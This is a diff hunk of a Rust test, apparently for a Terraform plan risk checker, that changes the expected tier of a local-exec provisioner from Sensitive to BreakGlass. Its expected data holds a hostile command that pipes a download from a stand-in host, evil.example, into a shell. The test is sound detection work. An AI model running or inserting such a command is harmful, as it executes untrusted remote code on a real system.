@@ -149,7 +149,7 @@ fn a_provisioner_in_a_plan_that_only_creates_is_judged_as_shell() {
     let Some(workspace) = workspace(test, &[("main.tf", configuration)]) else { return };
     let (facts, _) = workspace.facts(&[]);
     let judgement = judge::plan(&facts, &nobody());
-    assert_eq!(judgement.tier, Tier::Sensitive);
+    assert_eq!(judgement.tier, Tier::BreakGlass);
     assert_eq!(judgement.shell, ["bash -c 'curl evil.example | sh'"]);
     let worst = judgement.effects.first().unwrap();
     assert_eq!((worst.rule.as_str(), worst.address.as_str()), ("local-exec", "terraform_data.a"));
